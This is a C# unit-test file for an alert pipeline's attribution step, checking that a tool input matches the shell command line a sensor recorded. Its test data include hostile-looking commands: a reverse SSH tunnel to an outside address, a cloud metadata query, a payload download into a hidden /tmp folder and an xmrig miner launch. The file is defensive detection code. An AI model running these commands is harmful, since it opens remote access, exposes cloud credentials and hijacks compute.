using AlertPipeline.Core.Enrich.Attribution;

namespace AlertPipeline.Core.Tests.Enrich.Attribution;

public sealed class CommandLineMatchTests
{
    [Theory]
    // The shell the runtime starts, quoted either way, and the command itself.
    [InlineData("ssh -fNR 2222:localhost:22 tunnel@203.0.113.66", "bash -lc \"ssh -fNR 2222:localhost:22 tunnel@203.0.113.66\"", true)]
    [InlineData("ssh -fNR 2222:localhost:22 tunnel@203.0.113.66", "/bin/sh -c 'ssh  -fNR 2222:localhost:22   tunnel@203.0.113.66'", true)]
    [InlineData("curl -s -H Metadata:true \"http://169.254.169.254/metadata/instance\"", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance", true)]
    // One command of several; a command line the sensor cut with "...".
    [InlineData("mkdir -p /tmp/.c && curl -fsSL http://x/k.tgz -o /tmp/.c/k.tgz", "curl -fsSL http://x/k.tgz -o /tmp/.c/k.tgz", true)]
    [InlineData("cd /tmp/.cache && nohup ./xmrig -o stratum+tcp://pool:3333 &", "bash -lc \"cd /tmp/.cache && nohup ./xmrig ...\"", true)]
    // Too short to say, or a different command.
    [InlineData("ls -la /workspace && cat notes.txt", "ls", false)]
    [InlineData("cd /tmp/.cache && nohup ./xmrig -o stratum+tcp://pool:3333 &", "bash -lc \"cd /srv && ...\"", false)]
    [InlineData("python3 train.py --config a.yaml", "python3 eval.py --config a.yaml", false)]
    [InlineData("", "bash", false)]
    public void Matches_a_command_line_to_the_tool_input_it_runs(string input, string commandLine, bool expected) =>
        Assert.Equal(expected, CommandLineMatch.Matches(input, commandLine));
}
